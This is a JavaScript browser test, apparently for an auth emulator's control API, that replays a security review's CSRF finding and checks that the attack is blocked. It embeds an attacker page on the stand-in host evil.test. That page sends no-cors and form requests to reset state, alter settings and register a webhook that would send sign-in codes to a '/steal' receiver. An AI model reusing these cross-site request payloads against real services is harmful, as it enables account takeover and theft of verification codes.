// A web page on another site tries to drive the control API through a real browser (the
// security review's finding #1, replayed in Debian's Chromium): it must change nothing, while
// a link from that page still opens the inbox and the emulator's own pages keep working.
//
//   cargo build -p latchkey-emulator --bin auth-emulator
//   (cd tests/ui && npm ci)
//   node --test tests/ui/csrf.test.mjs
//
// Environment: AUTH_EMULATOR_BIN, CHROMIUM_PATH (as in inbox.test.mjs).

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';
import { control as controlApi, startEmulator } from '../interop/emulator.mjs';
import { chromiumOptions } from '../interop/chromium.mjs';

const WAIT = { timeout: 15_000 };

let emulator; // startEmulator(): { url, stop(), … }
let attacker; // { server, origin }
let stolen = []; // whatever reaches the attacker's receiver
let browser;

/** SIGTERM must stop the emulator cleanly (exit 0, within the harness's bound). */
async function stopEmulator(emu) {
  if (emu) await emu.stop();
}

/** A control-API call (tests/interop/emulator.mjs: JSON bodies, a bound, fails unless 2xx). */
const control = (method, pathAndQuery, body) => controlApi(emulator.url, method, pathAndQuery, body);

/** What a cross-site page could change or read: compared before and after the attack. */
async function snapshot() {
  const [instance, endpoints, messages, time] = await Promise.all([
    control('GET', '/instance'),
    control('GET', '/webhooks/endpoints'),
    control('GET', '/messages'),
    control('GET', '/time'),
  ]);
  return {
    settings: instance.settings,
    endpoints: endpoints.data.length,
    messages: messages.data.map((m) => m.id),
    offset: time.offset_ms,
  };
}

/** The attacker's page: every way a page can send a request without the user's help. */
function attackPage(api) {
  const endpoint = JSON.stringify({ url: `${attacker.origin}/steal` });
  const settings = JSON.stringify({ settings: { application_name: 'csrf-was-here', delivered_by_clerk: false } });
  return `<!doctype html><html><body>
<a id="inbox" href="${api}/_emulator/inbox">inbox</a>
<form id="f" method="POST" action="${api}/_emulator/v1/reset" target="sink"></form>
<iframe name="sink"></iframe>
<script>
const api = ${JSON.stringify(api)};
const results = {};
async function attempt(name, fn) {
  try { const r = await fn(); results[name] = r.type === 'opaque' ? 'opaque' : r.status; }
  catch (e) { results[name] = 'blocked: ' + e.message; }
}
(async () => {
  const blob = (s) => new Blob([s]);
  await attempt('endpoint', () => fetch(api + '/_emulator/v1/webhooks/endpoints', { method: 'POST', mode: 'no-cors', body: blob(${JSON.stringify(endpoint)}) }));
  await attempt('settings', () => fetch(api + '/_emulator/v1/instance?_method=PATCH', { method: 'POST', mode: 'no-cors', body: blob(${JSON.stringify(settings)}) }));
  await attempt('clock', () => fetch(api + '/_emulator/v1/time/advance', { method: 'POST', mode: 'no-cors', body: blob('{"seconds":864000}') }));
  await attempt('messages', () => fetch(api + '/_emulator/v1/messages?_method=DELETE', { method: 'POST', mode: 'no-cors', body: 'x' }));
  await attempt('text-plain', () => fetch(api + '/_emulator/v1/reset', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }));
  await attempt('json-cors', () => fetch(api + '/_emulator/v1/webhooks/endpoints', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(endpoint)} }));
  await attempt('read-codes', () => fetch(api + '/_emulator/v1/messages'));
  document.getElementById('f').submit();
  await new Promise((r) => document.querySelector('iframe').addEventListener('load', r, { once: true }));
  window.__done = results;
})();
</script></body></html>`;
}

before(async () => {
  emulator = await startEmulator();
  const server = createServer((req, res) => {
    if (req.url === '/') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(attackPage(emulator.url));
      return;
    }
    if (!req.url.startsWith('/steal')) {
      res.writeHead(404);
      res.end();
      return;
    }
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => { stolen.push({ url: req.url, body }); res.writeHead(204); res.end(); });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  attacker = { server, origin: `http://evil.test:${server.address().port}` };
  browser = await chromium.launch(chromiumOptions({
    // evil.test is another site that happens to run on this machine.
    args: ['--host-resolver-rules=MAP evil.test 127.0.0.1'],
  }));
});

after(async () => {
  try {
    if (browser) await browser.close();
    if (attacker) attacker.server.close();
  } finally {
    await stopEmulator(emulator);
  }
});

test('a page on another site cannot change the emulator or read its codes', async () => {
  // A message for the attacker to go after.
  const res = await fetch(`${emulator.url}/v1/client/sign_ups?_is_native=true`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ email_address: 'victim@example.com', password: 'lk-Test-pass-4921', strategy: 'email_code' }),
  });
  assert.equal(res.status, 200);
  const before = await snapshot();
  assert.equal(before.messages.length, 1);

  const page = await browser.newPage();
  await page.goto(`${attacker.origin}/`);
  await page.waitForFunction(() => window.__done, null, WAIT);
  const results = await page.evaluate(() => window.__done);
  // A cross-origin JSON request needs a preflight, which the emulator never grants; reading
  // the inbox cross-origin gets no readable response.
  assert.match(String(results['json-cors']), /^blocked/, JSON.stringify(results));
  assert.match(String(results['read-codes']), /^blocked/, JSON.stringify(results));

  assert.deepEqual(await snapshot(), before, `the attack changed nothing (${JSON.stringify(results)})`);

  // A later sign-up's code goes nowhere but the inbox.
  await fetch(`${emulator.url}/v1/client/sign_ups?_is_native=true`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ email_address: 'later@example.com', password: 'lk-Test-pass-4921', strategy: 'email_code' }),
  });
  await control('POST', '/jobs/wait_idle', { timeout_ms: 10_000 });
  assert.deepEqual(stolen, [], 'nothing reached the attacker');

  // A link on that page still opens the inbox (a top-level navigation), and it works there.
  await page.click('#inbox');
  await page.waitForURL(`${emulator.url}/_emulator/inbox`, WAIT);
  await page.locator('[data-testid="live-status"][data-state="live"]').waitFor(WAIT);
  await page.getByTestId('message-row-to').getByText('later@example.com', { exact: true }).waitFor(WAIT);
  await page.close();
});

test("the emulator's own pages still change state: the inbox empties", async () => {
  const page = await browser.newPage();
  page.on('dialog', (d) => d.accept());
  await page.goto(`${emulator.url}/_emulator/inbox`);
  await page.locator('[data-testid="live-status"][data-state="live"]').waitFor(WAIT);
  await page.getByTestId('message-row').first().waitFor(WAIT);
  await page.getByTestId('clear-inbox').click();
  await page.getByTestId('inbox-empty').waitFor({ state: 'visible', ...WAIT });
  const left = await control('GET', '/messages');
  assert.deepEqual(left.data, [], 'the own-origin DELETE went through');
  await page.close();
});
